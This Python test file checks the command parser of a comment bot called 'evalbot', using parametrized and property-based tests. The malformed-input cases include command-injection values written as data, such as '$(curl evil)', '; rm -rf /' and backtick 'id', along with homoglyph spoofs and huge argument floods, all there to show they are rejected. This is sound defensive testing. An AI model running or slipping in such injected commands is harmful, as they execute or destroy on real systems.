from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from evalbot.app.commands import (
    USAGE,
    Accept,
    Explain,
    Help,
    Malformed,
    NotForUs,
    Rerun,
    Run,
    help_text,
    parse,
)

SHA = "7be03f1" + "1" * 33


@pytest.mark.parametrize(
    ("body", "command"),
    [
        ("/evalbot rerun", Rerun()),
        ("/evalbot rerun --epochs 3", Rerun(3)),
        ("/evalbot rerun --epochs 100", Rerun(100)),
        ('/evalbot accept 0a1b2c3d "known: see the release notes"', Accept("0a1b2c3d", "known: see the release notes")),
        ("/evalbot accept 0a1b2c3d \"it's fine — 非常\"", Accept("0a1b2c3d", "it's fine — 非常")),
        (f"/evalbot run {SHA}", Run(SHA)),
        (f"/evalbot run {'a' * 64}", Run("a" * 64)),
        ("/evalbot explain refund-eu", Explain("refund-eu")),
        ("/evalbot explain prod-2026:7/a_b.c", Explain("prod-2026:7/a_b.c")),
        ("/evalbot help", Help()),
        ("/evalbot   help  ", Help()),
        ("/evalbot help\r\nthanks!\r\n", Help()),
        ("/evalbot help\n> quoted\n```\n/evalbot rerun\n```", Help()),
    ],
)
def test_the_grammar(body: str, command: object) -> None:
    assert parse(body) == command


@pytest.mark.parametrize(
    "body",
    [
        "", "\n", "thanks", "please /evalbot rerun", "rerun", "evalbot rerun",
        " /evalbot rerun", "\t/evalbot rerun", "\n/evalbot rerun", "\r\n/evalbot rerun", "\ufeff/evalbot rerun", "\u00a0/evalbot rerun",
        "> /evalbot rerun", ">/evalbot rerun", "```\n/evalbot rerun\n```", "~~~\n/evalbot rerun\n~~~", "    /evalbot rerun",
        "<!-- /evalbot rerun -->", "<!--\n/evalbot rerun\n-->", "`/evalbot rerun`", "- /evalbot rerun", "**/evalbot rerun**",
        "LGTM\n/evalbot rerun", "/Evalbot rerun", "/EVALBOT rerun", "／evalbot rerun", "/еvalbot rerun", "/evаlbot rerun", "/evalb\u200bot rerun",
        "/evalbots rerun", "/evalbot2 rerun", "/evalbot-dev rerun", "/evalbot/rerun", "/evalbot.rerun", "/evalbotт rerun",
    ],
)  # fmt: skip
def test_CMD_04_quoted_fenced_hidden_and_look_alike_text_is_not_for_us(body: str) -> None:
    assert parse(body) == NotForUs()


@pytest.mark.parametrize(
    "body",
    [
        "/evalbot", "/evalbot ", "/evalbot\r\n", "/evalbot\nrerun", "/evalbot merge", "/evalbot Rerun", "/evalbot re run", "/evalbot: help",
        "/evalbot\u00a0rerun", "/evalbot rerun\u00a0", "/evalbot\trerun", "/evalbot\u2003rerun", "/evalbot rerun\u200b", "/evalbot \u202ererun",
        "/evalbot re\rrun", "/evalbot rerun\x00", "/evalbot rerun\u2028--epochs 2",
        "/evalbot rerun 3", "/evalbot rerun --epochs", "/evalbot rerun --epochs=3", "/evalbot rerun --epochs 0", "/evalbot rerun --epochs 03",
        "/evalbot rerun --epochs -1", "/evalbot rerun --epochs 101", "/evalbot rerun --epochs 1e9", "/evalbot rerun --epochs ٣",
        "/evalbot rerun --epochs 3 --epochs 4", "/evalbot rerun --partitions golden",
        "/evalbot accept 0a1b2c3d", '/evalbot accept 0a1b2c3d ""', '/evalbot accept 0a1b2c3d "  "', "/evalbot accept 0a1b2c3d fine",
        "/evalbot accept 0a1b2c3d “fine”", "/evalbot accept 0a1b2c3d 'fine'", '/evalbot accept 0A1B2C3D "fine"', '/evalbot accept 0a1b2c3 "fine"',
        '/evalbot accept 0a1b2c3d "fine" again', '/evalbot accept 0a1b2c3d "a" "b"', '/evalbot accept "fine"', '/evalbot accept 0a1b2c3d"fine"',
        '/evalbot accept 0a1b2c3d "fine\nreally"', '/evalbot accept 0а1b2c3d "fine"',
        "/evalbot run", "/evalbot run main", "/evalbot run 7be03f1", f"/evalbot run {SHA[:-1]}", f"/evalbot run {SHA.upper()}", f"/evalbot run {SHA} x",
        "/evalbot explain", "/evalbot explain a b", "/evalbot explain $(id)", "/evalbot help me", "/evalbot help; rm -rf /",
    ],
)  # fmt: skip
def test_what_is_meant_for_us_and_not_in_the_grammar_is_malformed(body: str) -> None:
    found = parse(body)
    assert isinstance(found, Malformed)
    assert found.message.isprintable()


@pytest.mark.parametrize(
    "body",
    [
        "/evalbot run $(curl evil)", "/evalbot run `id`", f"/evalbot run {SHA};id", "/evalbot run " + "a " * 10_000, "/evalbot " + "rerun " * 10_000,
        "/evalbot rerun " + "--epochs 3 " * 10_000, '/evalbot accept 0a1b2c3d "' + "x" * 10_000 + '"', "/evalbot explain " + "a" * 1_000_000,
        "/evalbot" + " " * 1_000_000 + "help",
    ],
)  # fmt: skip
def test_CMD_07_shell_text_and_ten_thousand_arguments_are_malformed(body: str) -> None:
    assert isinstance(parse(body), Malformed)


def test_a_message_names_the_nearest_command_and_repeats_nothing() -> None:
    assert parse("/evalbot rerrun") == Malformed("There is no such command. Did you mean 'rerun'?")
    assert parse("/evalbot accept now") == Malformed('Write it as: /evalbot accept <id> "reason"')
    assert "@everyone" not in str(parse("/evalbot @everyone"))


# What may be a command, written a second time and by another road: split at spaces instead of matched as a whole.
_PIECES = st.sampled_from(
    ["/evalbot", " ", "  ", "\n", "\r\n", "\t", "\u00a0", "rerun", "--epochs", "1", "12", "x", "accept", "0a1b2c3d", '"', '"ok"', "run", SHA, SHA[:7],
     "explain", "g-1", "help", ">", "`", "<!--", "-->", "/", "\u202e", "٣", "é"]
)  # fmt: skip


def _is_a_command(body: str) -> bool:
    line = body.split("\n")[0]
    line = line[:-1] if line.endswith("\r") else line
    words = [word for word in line.split(" ") if word]
    if not line.startswith("/evalbot ") or len(line) > 1000:
        return False
    match words[1:]:
        case ["help"] | ["rerun"]:
            return True
        case ["rerun", "--epochs", count]:
            return count in {str(number) for number in range(1, 101)}
        case ["run", sha]:
            return len(sha) in (40, 64) and set(sha) <= set("0123456789abcdef")
        case ["explain", name]:
            return len(name) <= 200 and all(c.isascii() and (c.isalnum() or c in "._:/-") for c in name)
        case ["accept", identity, *_]:
            reason = line.split(identity, 1)[1].strip(" ")
            quoted = len(reason) > 2 and reason[0] == reason[-1] == '"' and '"' not in reason[1:-1]
            spaced = re.match(r"\S+ +accept +\S+ +\"", line) is not None
            hexadecimal = len(identity) == 8 and set(identity) <= set("0123456789abcdef")
            return quoted and spaced and hexadecimal and bool(reason[1:-1].strip()) and len(reason) <= 502 and line.isprintable()
    return False


@settings(max_examples=1500)
@given(st.one_of(st.lists(_PIECES, max_size=12).map("".join), st.text(), st.text().map("/evalbot ".__add__)))
@example('/evalbot accept 0a1b2c3d "ok"')
@pytest.mark.slow
def test_nothing_else_parses(body: str) -> None:
    found = parse(body)
    assert isinstance(found, Rerun | Accept | Run | Explain | Help) == _is_a_command(body)
    assert isinstance(found, NotForUs) or body.startswith("/evalbot")


def test_the_help_lists_every_command_once() -> None:
    text = help_text()
    assert [text.count(f"`{usage}`") for usage in USAGE.values()] == [1] * 5
    assert "write access" in text
